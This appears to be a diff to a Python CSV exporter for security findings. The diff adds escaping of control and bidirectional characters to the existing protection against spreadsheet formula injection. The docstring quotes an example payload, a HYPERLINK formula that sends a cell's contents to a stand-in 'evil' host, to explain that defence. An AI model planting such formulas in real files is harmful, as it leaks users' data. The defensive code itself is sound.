@@ -3,10 +3,12 @@
 Every cell that a spreadsheet would read as a formula — one starting with ``=``, ``+``, ``-``,
 ``@``, a tab or a carriage return (or their full-width forms) — gets a leading ``'``, so a user
 agent such as ``=HYPERLINK("http://evil/?"&A1,"click")`` shows as text in Excel, LibreOffice
-and Google Sheets instead of running (OWASP "CSV injection"). Values are otherwise kept whole:
-newlines stay inside quoted cells and long values are not cut (spreadsheets show at most
-32,767 characters of a cell; the CSV itself holds all of it). Lists are joined with ``; ``
-(event ids with spaces, explanation lines with newlines).
+and Google Sheets instead of running (OWASP "CSV injection"). Control, bidirectional and
+zero-width characters inside values (a raw ESC, a right-to-left override) are written as visible
+escapes (:func:`trailsight.text.visible`: ``\\x1b``, ``\\u202e``, a newline as ``\\n``).
+Values are otherwise kept whole: long values are not cut (spreadsheets show at most 32,767
+characters of a cell; the CSV itself holds all of it). Lists are joined with ``; `` (event ids
+with spaces, explanation lines with newlines: the only line breaks inside cells).
 """
 
 from __future__ import annotations
@@ -17,6 +19,7 @@ from typing import TextIO
 
 from trailsight.finding import Finding
 from trailsight.findings.export_common import iso_z, utf8_clean
+from trailsight.text import visible
 
 #: The columns, in order. New columns are only ever appended.
 CSV_COLUMNS: tuple[str, ...] = (
@@ -108,10 +111,11 @@ def finding_row(f: Finding) -> list[str]:
         _join(f.access_keys),
         _join(f.session_names),
         _join(f"{k}={v:g}" for k, v in sorted(f.detectors.items())),
-        _join(f.explanation, "\n"),
+        _join((visible(line) for line in f.explanation), "\n"),
         _join(f.event_ids, " "),
     ]
-    return [neutralise(utf8_clean(c)) for c in cells]
+    explanation = CSV_COLUMNS.index("explanation")
+    return [neutralise(utf8_clean(c if k == explanation else visible(c))) for k, c in enumerate(cells)]
 
 
 def write_csv(findings: Iterable[Finding], stream: TextIO) -> int:
